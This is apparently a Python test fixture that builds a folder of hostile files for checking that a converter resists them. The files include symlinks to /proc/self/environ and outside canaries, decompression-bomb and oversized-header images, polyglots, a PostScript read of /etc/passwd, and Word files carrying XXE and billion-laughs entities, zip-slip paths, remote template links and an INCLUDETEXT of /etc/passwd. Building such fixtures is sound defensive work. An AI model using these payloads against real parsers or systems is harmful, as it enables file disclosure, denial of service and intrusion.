"""A stranger's folder: sound files, and every kind of odd one, that sources in it may name; files nobody may read beside it."""

import io
import os
import socket
import struct
import zipfile
import zlib
from pathlib import Path

from hostile import canary

SPARSE_BYTES = 5 * 2**30
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def make(root: Path, server: canary.Server) -> dict[str, str]:
    """Make the folders `outside` and `inside`; what the cases call them."""
    outside, inside = root / "outside", root / "inside"
    canary.plant(outside)
    (outside / "canary.docx").write_bytes(_template({}))
    for folder in (inside, inside / "sub", inside / "directory.png", inside / "directory.css"):
        folder.mkdir()
    (inside / "good.png").write_bytes(_png(8, 8))
    (inside / "good.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>'
    )
    (inside / "imports.css").write_text(
        f"@import url({server.host}/a.css); @import '../outside/canary.css'; body {{ color: #222 }}"
    )
    _links(inside, outside)
    _odd(inside)
    _pictures(inside)
    _templates(inside, outside, server)
    return _places(root, server)


def _places(root: Path, server: canary.Server) -> dict[str, str]:
    outside = root / "outside"
    return {
        "server": f"http://{server.host}",
        "host": server.host,
        "port": server.host.rpartition(":")[2],
        "bare": server.bare,
        "canary": str(outside / "canary.txt"),
        "picture": str(outside / "canary.png"),
        "svg": str(outside / "canary.svg"),
        "css": str(outside / "canary.css"),
        "dtd": str(outside / "canary.dtd"),
        "outside": str(outside),
        "inside": str(root / "inside"),
        "long": "a" * 5000,
        "nest": "[" * 3000 + "]" * 3000,
        "digits": "9" * 5000,
        "line": "a: b\n" * 2000,
        "groups": "<g>" * 5000 + '<rect width="9" height="9"/>' + "</g>" * 5000,
        "gz": "",
    }


def _links(inside: Path, outside: Path) -> None:
    for ending in ("png", "css", "svg", "docx"):
        (inside / f"link.{ending}").symlink_to(outside / f"canary.{ending}")
    (inside / "relative.png").symlink_to("../outside/canary.png")
    (inside / "chain1.png").symlink_to("chain2.png")
    (inside / "chain2.png").symlink_to("sub/chain3.png")
    (inside / "sub" / "chain3.png").symlink_to("../link.png")
    (inside / "linked").symlink_to(outside)
    (inside / "loop.png").symlink_to("loop.png")
    (inside / "loop1.png").symlink_to("loop2.png")
    (inside / "loop2.png").symlink_to("loop1.png")
    (inside / "broken.png").symlink_to("nothing.png")
    (inside / "process.png").symlink_to("/proc/self/environ")
    (inside / "input.png").symlink_to("/dev/stdin")


def _odd(inside: Path) -> None:
    """What is no regular file, or too much of one."""
    for ending in ("png", "css", "docx"):
        os.mkfifo(inside / f"pipe.{ending}")
        _sparse(inside / f"huge.{ending}")
    for name in ("zero", "random", "full", "tty"):
        (inside / f"{name}.png").symlink_to(f"/dev/{'u' if name == 'random' else ''}{name}")
    (inside / "endless.css").symlink_to("/dev/zero")
    with socket.socket(socket.AF_UNIX) as one:
        here = os.open(".", os.O_RDONLY)
        os.chdir(inside)  # a socket's name may not be long
        try:
            one.bind("socket.png")
        finally:
            os.fchdir(here)
            os.close(here)


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(SPARSE_BYTES)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(width: int, height: int, *, before: bytes = b"", rows: int = 0) -> bytes:
    """A grey picture; `rows` of its rows are there, all unless said."""
    data = zlib.compress(bytes((rows or height) * ((width + 7) // 8 + 1)), 1)
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + before + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _pictures(inside: Path) -> None:
    """Pictures that swell, lie, or are programs under a picture's name."""
    from PIL import Image

    swollen = zlib.compress(bytes(100 * 2**20), 1)
    jpeg, gif, tiff = io.BytesIO(), io.BytesIO(), io.BytesIO()
    Image.new("L", (8, 8)).save(jpeg, "JPEG")
    Image.new("L", (8, 8)).save(gif, "GIF")
    Image.new("L", (8, 8)).save(tiff, "TIFF")
    frames = [Image.new("L", (8, 8), number % 256) for number in range(500)]
    film = io.BytesIO()
    frames[0].save(film, "GIF", save_all=True, append_images=frames[1:])
    page = b"<script>new Image()</script>"
    files = {
        "wide.png": _png(100_000, 100_000, rows=1),
        "swells.png": _png(20_000, 20_000),
        "largest.png": _png(2**28, 2**28, rows=1),
        "profile.png": _png(8, 8, before=_chunk(b"iCCP", b"a\0\0" + swollen)),
        "words.png": _png(8, 8, before=_chunk(b"zTXt", b"a\0\0" + swollen) + _chunk(b"iTXt", b"a\0\1\0\0\0" + swollen)),
        "chunks.png": _png(8, 8, before=_chunk(b"tEXt", b"a\0b") * 50_000),
        "cut.png": _png(8, 8)[:40],
        "flat.png": _png(0, 0, rows=1),
        "wide.gif": b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + b",\0\0\0\0\xff\xff\xff\xff\0\x02\x02L\x01\0;",
        "film.gif": film.getvalue(),
        "wide.jpg": jpeg.getvalue().replace(b"\x08\0\x08\0\x08\x01", b"\x08\xff\xff\xff\xff\x01"),
        "wide.webp": b"RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0/\xff\xff\xff\x0f\x07\x10\xfd\x8f\xfe\x07\x22\xa2\xff\x01\0",
        "wide.bmp": b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0),
        "run.bmp": b"BM" + struct.pack("<IHHIIiiHHIIiiII", 99, 0, 0, 54, 40, 30_000, 30_000, 1, 8, 1, 0, 0, 0, 0, 0) + b"\xff\0" * 9,
        "loop.tiff": tiff.getvalue()[:-4] + struct.pack("<I", 8),
        "script.png": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\n(/etc/passwd) (r) file\n" + page,
        "page.png": b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(1)>>>>endobj\n%%EOF",
        "meta.png": b"\xd7\xcd\xc6\x9a" + bytes(40),
        "text.png": page,
        "polyglot.gif": gif.getvalue() + page,
        "polyglot.jpg": jpeg.getvalue() + b"%PDF-1.4 /OpenAction" + _template({}),
        "jp2.png": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0\0\0\x14ftypjp2 \0\0\0\0jp2 " + b"\0\0\0-jp2h\0\0\0\x16ihdr" + b"\xff" * 14 + bytes(15),
        "icon.ico": b"\0\0\1\0\xff\xff" + bytes(200),
        "empty.png": b"",
        "packed.svg": b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + swollen[2:-4],
    }  # fmt: skip
    for name, data in files.items():
        (inside / name).write_bytes(data)


PICTURES = (
    "link.png relative.png chain1.png linked/canary.png linked loop.png loop1.png broken.png process.png input.png pipe.png huge.png "
    "zero.png random.png full.png tty.png socket.png directory.png wide.png swells.png largest.png profile.png words.png chunks.png "
    "cut.png flat.png wide.gif film.gif wide.jpg wide.webp wide.bmp run.bmp loop.tiff script.png page.png meta.png text.png "
    "polyglot.gif polyglot.jpg jp2.png icon.ico empty.png packed.svg link.svg"
).split()
"""The odd files that a source names as its picture."""


def _templates(inside: Path, outside: Path, server: canary.Server) -> None:
    """Word files that reach out, swell, or climb."""
    external = "".join(
        f'<Relationship Id="rId{number}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(
            [
                ("image", f"http://{server.host}/t.png"),
                ("attachedTemplate", f"http://{server.host}/t.dotm"),
                ("oleObject", f"file://{outside}/canary.txt"),
                ("subDocument", f"http://{server.host}/s.docx"),
                ("frame", f"http://{server.host}/f.docx"),
                ("hyperlink", "javascript:alert(1)"),
            ],
            90,
        )
    )
    entity = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{outside}/canary.txt"><!ENTITY % b SYSTEM "http://{server.host}/x.dtd">%b;]>'
    laughs = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
        f"<!ENTITY {name} '{f'&{before};' * 10}'>"
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    files = {
        "external.docx": _template({"word/_rels/document.xml.rels": _relationships(external)}),
        "settings.docx": _template({"word/_rels/settings.xml.rels": _relationships(external), "word/settings.xml": f'<w:settings xmlns:w="{_W}" xmlns:r="{_OFFICE}"><w:attachedTemplate r:id="rId91"/></w:settings>'}),
        "header.docx": _template({"word/header1.xml": _header(), "word/_rels/header1.xml.rels": _relationships(external)}, header=True),
        "entities.docx": _template({"word/styles.xml": entity + f'<w:styles xmlns:w="{_W}"><w:style w:styleId="&a;"/></w:styles>'}),
        "laughs.docx": _template({"word/styles.xml": laughs + f"]><w:styles xmlns:w='{_W}'>&i;</w:styles>"}),
        "bomb.docx": _template({"word/styles.xml": f'<w:styles xmlns:w="{_W}">' + " " * (150 * 2**20) + "</w:styles>"}),
        "climbing.docx": _template({"../../outside/written.txt": "a", "/etc/written": "a", "word/..\\..\\written.txt": "a", "C:\\written.txt": "a"}),
        "macros.docx": _template({"word/vbaProject.bin": "a", "word/embeddings/oleObject1.bin": "a"}),
        "deep.docx": _template({"word/styles.xml": f'<w:styles xmlns:w="{_W}">' + "<w:a>" * 100_000 + "</w:a>" * 100_000 + "</w:styles>"}),
        "many.docx": _template({f"word/part{number}.xml": "<a/>" for number in range(5_000)}),
        "broken.docx": _template({})[:300],
        "none.docx": b"a",
    }  # fmt: skip
    for name, data in files.items():
        (inside / name).write_bytes(data)


TEMPLATES = "external settings header entities laughs bomb climbing macros deep many broken none link pipe huge".split()
"""The Word files that a source or a command names as its template."""


def _relationships(inner: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{_REL}">{inner}</Relationships>'


def _header() -> str:
    drawing = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT "/etc/passwd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return f'<w:hdr xmlns:w="{_W}" xmlns:r="{_OFFICE}"><w:p>{drawing}</w:p></w:hdr>'


def _template(parts: dict[str, str], *, header: bool = False) -> bytes:
    """A small Word file, some of its parts replaced."""
    inner = (
        '<w:sectPr><w:headerReference w:type="default" r:id="rId2"/></w:sectPr>' if header else "<w:sectPr/>"
    )
    own = f'<Relationship Id="rId2" Type="{_OFFICE}/header" Target="header1.xml"/>' if header else ""
    override = (
        '<Override PartName="/word/header1.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
        if header
        else ""
    )
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    files = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="{word}.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="{word}.styles+xml"/><Override PartName="/word/settings.xml" ContentType="{word}.settings+xml"/>{override}</Types>',
        "_rels/.rels": _relationships(f'<Relationship Id="rId1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": f'<w:document xmlns:w="{_W}" xmlns:r="{_OFFICE}"><w:body><w:p><w:r><w:t>{{{{content}}}}</w:t></w:r></w:p>{inner}</w:body></w:document>',
        "word/_rels/document.xml.rels": _relationships(
            f'<Relationship Id="rId1" Type="{_OFFICE}/styles" Target="styles.xml"/><Relationship Id="rId3" Type="{_OFFICE}/settings" Target="settings.xml"/>{own}'
        ),
        "word/styles.xml": f'<w:styles xmlns:w="{_W}"><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>',
        "word/settings.xml": f'<w:settings xmlns:w="{_W}"/>',
    }  # fmt: skip
    for name, said in parts.items():
        both = files.get(name, "").replace("</Relationships>", "") + said.partition(f'"{_REL}">')[2]
        files[name] = both if name == "word/_rels/document.xml.rels" else said
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, said in files.items():
            package.writestr(zipfile.ZipInfo(name), said, zipfile.ZIP_DEFLATED, 1)
    return data.getvalue()
